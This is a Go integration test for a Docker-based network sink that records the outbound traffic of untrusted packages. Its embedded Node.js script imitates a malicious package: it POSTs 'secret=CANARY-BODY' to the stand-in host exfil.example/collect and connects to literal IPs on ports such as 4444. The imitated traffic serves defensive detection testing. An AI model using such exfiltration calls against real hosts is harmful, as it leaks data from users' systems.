//go:build docker && linux

package sink_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/filters"
	imagetypes "github.com/docker/docker/api/types/image"
	"github.com/docker/docker/api/types/network"
	"github.com/docker/docker/client"
	"github.com/docker/docker/pkg/stdcopy"

	"github.com/verifymcp/verifymcp/sandbox"
	"github.com/verifymcp/verifymcp/sandbox/image"
	"github.com/verifymcp/verifymcp/sandbox/sink"
)

// clientImage is the sandbox image of this recipe (Node.js 22); the
// package's code runs in it. `make test` builds it first.
var clientImage = image.Ref()

// clientScript makes, as uid 65534 in the sink's network namespace, the
// traffic a malicious package would: a DNS lookup, a connection to a
// literal IP, a plain HTTP POST with a header, HTTPS to a named host, and a
// datagram to a literal IP. It prints what it saw as one JSON line.
const clientScript = `
const dns = require('dns'), net = require('net'), http = require('http'), https = require('https'), dgram = require('dgram');
const out = {pid: process.pid};
const withTimeout = (p) => Promise.race([p, new Promise(r => setTimeout(() => r('timeout'), 8000).unref())]);
(async () => {
  out.lookup = await withTimeout(new Promise(r => dns.lookup('lookup-canary.example', {family: 4}, (e, a) => r(e ? 'ERR ' + e.code : a))));
  out.tcp = await withTimeout(new Promise(r => {
    const s = net.connect({host: '203.0.113.7', port: 4444}, () => { out.tcpPort = s.localPort; s.end('literal-bytes CANARY-TCP'); });
    s.on('close', () => r('closed')); s.on('error', e => r('ERR ' + e.code));
  }));
  out.http = await withTimeout(new Promise(r => {
    const req = http.request({host: 'exfil.example', port: 80, path: '/collect?k=1', method: 'POST',
      headers: {'X-Canary': 'CANARY-HDR', 'Content-Type': 'text/plain'}}, res => {
      out.httpStatus = res.statusCode; res.resume(); res.on('end', () => r('ok'));
    });
    req.on('error', e => r('ERR ' + e.code));
    req.end('secret=CANARY-BODY');
  }));
  out.https = await withTimeout(new Promise(r => {
    const req = https.get('https://api.example.org/v1', res => { res.resume(); r('status ' + res.statusCode); });
    req.on('error', e => r('ERR ' + (e.code || e.message)));
  }));
  out.udp = await withTimeout(new Promise(r => {
    const s = dgram.createSocket('udp4');
    s.send('udp-bytes CANARY-UDP', 9999, '198.51.100.9', e => { out.udpPort = s.address().port; setTimeout(() => { s.close(); r(e ? 'ERR ' + e.code : 'sent'); }, 300); });
  }));
  console.log(JSON.stringify(out));
})();
`

type clientOut struct {
	PID        int    `json:"pid"`
	Lookup     string `json:"lookup"`
	TCP        string `json:"tcp"`
	TCPPort    int    `json:"tcpPort"`
	HTTP       string `json:"http"`
	HTTPStatus int    `json:"httpStatus"`
	HTTPS      string `json:"https"`
	UDP        string `json:"udp"`
	UDPPort    int    `json:"udpPort"`
}

func TestSinkInContainers(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cli, err := client.NewClientWithOpts(client.FromEnv, client.WithAPIVersionNegotiation())
	if err != nil {
		t.Fatalf("docker client: %v", err)
	}
	defer cli.Close()
	if _, err := cli.Ping(ctx); err != nil {
		t.Fatalf("docker engine not reachable: %v", err)
	}

	runID := "sinktest-" + randHex(6)
	host, _ := os.Hostname()
	labels := map[string]string{sandbox.LabelRun: runID, sandbox.LabelOwner: host + "/" + strconv.Itoa(os.Getpid())}
	var builtImage string
	t.Cleanup(func() {
		removeRun(t, cli, runID)
		if builtImage == "" {
			return
		}
		// Without force: an image a concurrent run uses stays.
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if _, err := cli.ImageRemove(ctx, builtImage, imagetypes.RemoveOptions{PruneChildren: true}); err != nil {
			t.Logf("remove sink image %s: %v", builtImage, err)
		}
	})

	sinkImage, created := buildSinkImage(ctx, t, cli)
	if created {
		builtImage = sinkImage
	}

	netResp, err := cli.NetworkCreate(ctx, "verifymcp-"+runID+"-net", network.CreateOptions{Driver: "bridge", Internal: true, Labels: labels})
	if err != nil {
		t.Fatalf("create internal network: %v", err)
	}

	// The sink: root, only NET_ADMIN (and NET_BIND_SERVICE), and
	// SYS_PTRACE to read the client's fds (Event.PID), read-only.
	sinkC, err := cli.ContainerCreate(ctx,
		&container.Config{Image: sinkImage, User: "0", Labels: labels, OpenStdin: true, StdinOnce: true, AttachStdin: true, AttachStdout: true, AttachStderr: true},
		&container.HostConfig{
			NetworkMode:    container.NetworkMode(netResp.ID),
			CapDrop:        []string{"ALL"},
			CapAdd:         []string{"NET_ADMIN", "NET_BIND_SERVICE", "SYS_PTRACE"},
			SecurityOpt:    []string{"no-new-privileges"},
			ReadonlyRootfs: true,
			Resources:      container.Resources{Memory: 128 << 20, PidsLimit: ptr(int64(64))},
		}, nil, nil, "verifymcp-"+runID+"-sink")
	if err != nil {
		t.Fatalf("create sink container: %v", err)
	}
	att, err := cli.ContainerAttach(ctx, sinkC.ID, container.AttachOptions{Stream: true, Stdin: true, Stdout: true, Stderr: true})
	if err != nil {
		t.Fatalf("attach sink: %v", err)
	}
	defer att.Close()
	evR, evW := io.Pipe()
	var sinkErr syncBuffer
	go func() {
		_, err := stdcopy.StdCopy(evW, &sinkErr, att.Reader)
		evW.CloseWithError(err)
	}()
	if err := cli.ContainerStart(ctx, sinkC.ID, container.StartOptions{}); err != nil {
		t.Fatalf("start sink: %v", err)
	}

	events := make(chan sink.Event, 1024)
	go func() {
		defer close(events)
		sc := bufio.NewScanner(evR)
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			var ev sink.Event
			if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
				t.Errorf("sink wrote a line that is not an event: %q: %v", sc.Text(), err)
				continue
			}
			events <- ev
		}
	}()
	var ready sink.Event
	select {
	case ready = <-events:
	case <-time.After(30 * time.Second):
		t.Fatalf("no ready event from the sink; stderr: %s", sinkErr.String())
	}
	if ready.Type != sink.TypeReady || ready.Advertise == "" {
		t.Fatalf("first event = %+v, want ready with an advertised address; stderr: %s", ready, sinkErr.String())
	}
	t.Logf("sink ready, advertising %s", ready.Advertise)
	control := func(line string) {
		if _, err := io.WriteString(att.Conn, line+"\n"); err != nil {
			t.Fatalf("write control line: %v", err)
		}
	}
	control("phase run")
	control("mark handshake_done")

	// The package's side: uid 65534, no capabilities, in the sink's
	// network and PID namespaces.
	cl, err := cli.ContainerCreate(ctx,
		&container.Config{Image: clientImage, User: "65534:65534", Labels: labels, Cmd: []string{"node", "-e", clientScript}, Env: []string{"HOME=/tmp"}},
		&container.HostConfig{
			NetworkMode:    container.NetworkMode("container:" + sinkC.ID),
			PidMode:        container.PidMode("container:" + sinkC.ID),
			CapDrop:        []string{"ALL"},
			SecurityOpt:    []string{"no-new-privileges"},
			ReadonlyRootfs: true,
		}, nil, nil, "verifymcp-"+runID+"-client")
	if err != nil {
		t.Fatalf("create client container: %v", err)
	}
	waitC, waitErr := cli.ContainerWait(ctx, cl.ID, container.WaitConditionNextExit)
	if err := cli.ContainerStart(ctx, cl.ID, container.StartOptions{}); err != nil {
		t.Fatalf("start client: %v", err)
	}
	select {
	case w := <-waitC:
		if w.StatusCode != 0 {
			t.Errorf("client exited %d", w.StatusCode)
		}
	case err := <-waitErr:
		t.Fatalf("wait for client: %v", err)
	}
	logs, err := cli.ContainerLogs(ctx, cl.ID, container.LogsOptions{ShowStdout: true, ShowStderr: true})
	if err != nil {
		t.Fatalf("client logs: %v", err)
	}
	var cout, cerr bytes.Buffer
	_, _ = stdcopy.StdCopy(&cout, &cerr, logs)
	logs.Close()
	var got clientOut
	if err := json.Unmarshal(cout.Bytes(), &got); err != nil {
		t.Fatalf("client output %q (stderr %q): %v", cout.String(), cerr.String(), err)
	}
	t.Logf("client saw: %+v", got)

	// Memory after the traffic, while the sink still runs.
	reportMemory(ctx, t, cli, sinkC.ID)

	control("mark traffic_done")
	_ = att.CloseWrite() // EOF on control: the sink flushes and exits.
	var all []sink.Event
	timeout := time.After(30 * time.Second)
collect:
	for {
		select {
		case ev, ok := <-events:
			if !ok {
				break collect
			}
			all = append(all, ev)
		case <-timeout:
			t.Fatalf("sink did not end after control EOF; stderr: %s", sinkErr.String())
		}
	}
	if s := sinkErr.String(); s != "" {
		t.Logf("sink stderr: %s", s)
	}
	inspect, err := cli.ContainerInspect(ctx, sinkC.ID)
	if err == nil && inspect.State != nil && (inspect.State.Running || inspect.State.ExitCode != 0) {
		t.Errorf("sink state after control EOF: running=%v exit=%d", inspect.State.Running, inspect.State.ExitCode)
	}
	for _, ev := range all {
		ev.Data, ev.Body = bytes.TrimSpace(ev.Data), bytes.TrimSpace(ev.Body)
		b, _ := json.Marshal(ev)
		t.Logf("event: %s", truncate(string(b), 400))
	}

	t.Run("client_view", func(t *testing.T) {
		if got.Lookup != ready.Advertise {
			t.Errorf("dns.lookup answered %q, want the advertised %s", got.Lookup, ready.Advertise)
		}
		if got.HTTP != "ok" || got.HTTPStatus != 200 {
			t.Errorf("HTTP POST = %q status %d, want ok 200", got.HTTP, got.HTTPStatus)
		}
		if !strings.HasPrefix(got.HTTPS, "ERR") {
			t.Errorf("HTTPS = %q, want a failed handshake", got.HTTPS)
		}
		if got.TCP != "closed" || got.UDP != "sent" {
			t.Errorf("tcp = %q, udp = %q; want closed and sent", got.TCP, got.UDP)
		}
	})

	find := func(match func(sink.Event) bool) *sink.Event {
		for i := range all {
			if match(all[i]) {
				return &all[i]
			}
		}
		return nil
	}
	type check struct {
		name  string
		match func(sink.Event) bool
		test  func(t *testing.T, ev *sink.Event)
	}
	checks := []check{
		{
			name: "dns_lookup",
			match: func(ev sink.Event) bool {
				return ev.Type == sink.TypeDNS && ev.DNSName == "lookup-canary.example" && ev.DNSType == "A"
			},
			test: func(t *testing.T, ev *sink.Event) {
				// The UDP original destination comes from conntrack.
				if ev.DstIP != "127.0.0.11" || ev.DstPort != 53 || ev.LiteralIP || ev.Phase != "run" {
					t.Errorf("dns event = %+v, want dst 127.0.0.11:53, not literal, phase run", *ev)
				}
			},
		},
		{
			name:  "tcp_literal_ip",
			match: func(ev sink.Event) bool { return ev.Type == sink.TypeTCP && ev.DstIP == "203.0.113.7" },
			test: func(t *testing.T, ev *sink.Event) {
				if ev.DstPort != 4444 || !ev.LiteralIP || string(ev.Data) != "literal-bytes CANARY-TCP" || ev.SrcPort != got.TCPPort {
					t.Errorf("tcp event = %+v, want 203.0.113.7:4444 literal with the bytes from port %d", *ev, got.TCPPort)
				}
			},
		},
		{
			name:  "http_post",
			match: func(ev sink.Event) bool { return ev.Type == sink.TypeTCP && ev.HTTPHost == "exfil.example" },
			test: func(t *testing.T, ev *sink.Event) {
				if ev.HTTPMethod != "POST" || ev.HTTPTarget != "/collect?k=1" || ev.DstIP != ready.Advertise || ev.DstPort != 80 || ev.LiteralIP {
					t.Errorf("http event = %+v, want POST /collect?k=1 to %s:80, not literal", *ev, ready.Advertise)
				}
				if v := ev.HTTPHeaders["X-Canary"]; len(v) != 1 || v[0] != "CANARY-HDR" {
					t.Errorf("X-Canary header = %v, want [CANARY-HDR]", v)
				}
				if string(ev.Body) != "secret=CANARY-BODY" {
					t.Errorf("body = %q, want secret=CANARY-BODY", ev.Body)
				}
			},
		},
		{
			name:  "dns_for_http_host",
			match: func(ev sink.Event) bool { return ev.Type == sink.TypeDNS && ev.DNSName == "exfil.example" },
			test:  func(t *testing.T, ev *sink.Event) {},
		},
		{
			name:  "tls_sni",
			match: func(ev sink.Event) bool { return ev.Type == sink.TypeTCP && ev.SNI == "api.example.org" },
			test: func(t *testing.T, ev *sink.Event) {
				if ev.DstIP != ready.Advertise || ev.DstPort != 443 || ev.LiteralIP {
					t.Errorf("tls event = %+v, want %s:443, not literal", *ev, ready.Advertise)
				}
			},
		},
		{
			name:  "udp_literal_via_conntrack",
			match: func(ev sink.Event) bool { return ev.Type == sink.TypeUDP && ev.SrcPort == got.UDPPort },
			test: func(t *testing.T, ev *sink.Event) {
				if ev.DstIP != "198.51.100.9" || ev.DstPort != 9999 || !ev.LiteralIP || string(ev.Data) != "udp-bytes CANARY-UDP" || ev.Error != "" {
					t.Errorf("udp event = %+v, want 198.51.100.9:9999 literal with the bytes", *ev)
				}
			},
		},
		{
			name:  "marks",
			match: func(ev sink.Event) bool { return ev.Type == sink.TypeMark && ev.Label == "traffic_done" },
			test: func(t *testing.T, ev *sink.Event) {
				if find(func(e sink.Event) bool {
					return e.Type == sink.TypeMark && e.Label == "handshake_done" && e.Phase == "run"
				}) == nil {
					t.Errorf("no handshake_done mark in phase run")
				}
			},
		},
	}
	for _, c := range checks {
		t.Run(c.name, func(t *testing.T) {
			ev := find(c.match)
			if ev == nil {
				t.Fatalf("no such event among %d", len(all))
			}
			c.test(t, ev)
		})
	}
	t.Run("pids", func(t *testing.T) {
		// Every connection, datagram and query is the client's, whose
		// node process the sink sees in the PID namespace they share.
		n := 0
		for _, ev := range all {
			if ev.Type == sink.TypeTCP || ev.Type == sink.TypeUDP || ev.Type == sink.TypeDNS {
				n++
				if got.PID == 0 || ev.PID != got.PID {
					t.Errorf("%s event from port %d has PID %d, want the client's %d", ev.Type, ev.SrcPort, ev.PID, got.PID)
				}
			}
		}
		if n == 0 {
			t.Errorf("no tcp, udp or dns events")
		}
	})
	t.Run("no_sink_errors", func(t *testing.T) {
		for _, ev := range all {
			if ev.Type == sink.TypeError {
				t.Errorf("sink error event: %+v", ev)
			}
		}
	})
}

// buildSinkImage compiles the sink's command statically and wraps it in a
// helper image (FROM scratch).
// It reports whether this call created the image.
func buildSinkImage(ctx context.Context, t *testing.T, cli client.APIClient) (string, bool) {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "sinkd")
	gobin := filepath.Join(runtime.GOROOT(), "bin", "go")
	if _, err := os.Stat(gobin); err != nil {
		gobin = "go"
	}
	cmd := exec.CommandContext(ctx, gobin, "build", "-trimpath", "-o", bin, "./internal/sinkd")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build sinkd: %v\n%s", err, out)
	}
	// The image is tagged by the binary's hash; remove it afterwards only
	// if this test built it, so a concurrent run's image is left alone.
	data, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	// The tag EnsureHelperImage gives a binary (sandbox's helperImageRef).
	_, existed := cli.ImageInspect(ctx, "verifymcp-helper:"+hex.EncodeToString(sum[:])[:12])
	ref, err := sandbox.EnsureHelperImage(ctx, cli, bin)
	if err != nil {
		t.Fatalf("build sink image: %v", err)
	}
	return ref, existed != nil
}

// reportMemory prints the sink process's resident memory, read from the
// host's /proc, and the container's memory as the engine counts it.
func reportMemory(ctx context.Context, t *testing.T, cli client.APIClient, id string) {
	t.Helper()
	in, err := cli.ContainerInspect(ctx, id)
	if err != nil || in.State == nil || in.State.Pid == 0 {
		t.Errorf("inspect sink for its pid: %v", err)
		return
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", in.State.Pid))
	if err != nil {
		t.Errorf("read sink /proc status: %v", err)
	} else {
		var rss, hwm string
		for _, line := range strings.Split(string(status), "\n") {
			if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
				rss = strings.TrimSpace(v)
			}
			if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
				hwm = strings.TrimSpace(v)
			}
		}
		t.Logf("sink memory after traffic: VmRSS %s, peak VmHWM %s", rss, hwm)
	}
	st, err := cli.ContainerStatsOneShot(ctx, id)
	if err != nil {
		t.Logf("container stats: %v", err)
		return
	}
	defer st.Body.Close()
	var stats container.StatsResponse
	if err := json.NewDecoder(st.Body).Decode(&stats); err == nil {
		t.Logf("sink container memory (engine): usage %.1f MiB, cache %.1f MiB", float64(stats.MemoryStats.Usage)/(1<<20), float64(stats.MemoryStats.Stats["cache"])/(1<<20))
	}
}

// removeRun removes every container and network labelled with runID, with
// its own context so that it runs after failures and timeouts.
func removeRun(t *testing.T, cli client.APIClient, runID string) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	f := filters.NewArgs(filters.Arg("label", sandbox.LabelRun+"="+runID))
	var errs []error
	cs, err := cli.ContainerList(ctx, container.ListOptions{All: true, Filters: f})
	errs = append(errs, err)
	for _, c := range cs {
		errs = append(errs, cli.ContainerRemove(ctx, c.ID, container.RemoveOptions{Force: true}))
	}
	ns, err := cli.NetworkList(ctx, network.ListOptions{Filters: f})
	errs = append(errs, err)
	for _, n := range ns {
		errs = append(errs, cli.NetworkRemove(ctx, n.ID))
	}
	if err := errors.Join(errs...); err != nil {
		t.Errorf("remove test containers and network: %v", err)
	}
	cs, _ = cli.ContainerList(ctx, container.ListOptions{All: true, Filters: f})
	ns, _ = cli.NetworkList(ctx, network.ListOptions{Filters: f})
	if len(cs)+len(ns) != 0 {
		t.Errorf("left behind %d containers and %d networks labelled %s", len(cs), len(ns), runID)
	}
}

func randHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

func ptr[T any](v T) *T { return &v }

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
